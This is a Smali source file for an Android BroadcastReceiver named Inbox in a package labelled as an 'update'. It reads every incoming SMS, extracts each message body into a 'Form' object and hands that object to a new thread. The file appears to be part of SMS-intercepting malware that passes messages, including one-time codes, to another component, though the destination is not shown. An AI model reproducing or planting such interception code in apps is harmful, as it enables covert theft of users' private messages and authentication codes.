.class public Lexample/kuaiyin/update/Inbox;
.super Landroid/content/BroadcastReceiver;
.source "Inbox.java"

.method public constructor <init>()V
    .locals 0

    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V

    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .locals 6

    invoke-virtual {p2}, Landroid/content/Intent;->getExtras()Landroid/os/Bundle;
    move-result-object v0

    if-nez v0, :some

    return-void

    :some

    const-string v1, "pdus"

    invoke-virtual {v0, v1}, Landroid/os/Bundle;->get(Ljava/lang/String;)Ljava/lang/Object;
    move-result-object v0

    check-cast v0, [Ljava/lang/Object;

    array-length v1, v0

    const/4 v2, 0x0

    new-instance v3, Lexample/kuaiyin/update/Form;

    invoke-direct {v3}, Lexample/kuaiyin/update/Form;-><init>()V

    :next

    if-ge v2, v1, :send

    aget-object v4, v0, v2

    check-cast v4, [B

    invoke-static {v4}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v4

    invoke-virtual {v4}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v4

    const-string v5, "sms"

    invoke-virtual {v3, v5, v4}, Lexample/kuaiyin/update/Form;->set(Ljava/lang/String;Ljava/lang/Object;)V

    add-int/lit8 v2, v2, 1

    goto :next

    :send

    new-instance v0, Ljava/lang/Thread;

    invoke-direct {v0, v3}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V

    invoke-virtual {v0}, Ljava/lang/Thread;->start()V

    return-void
.end method
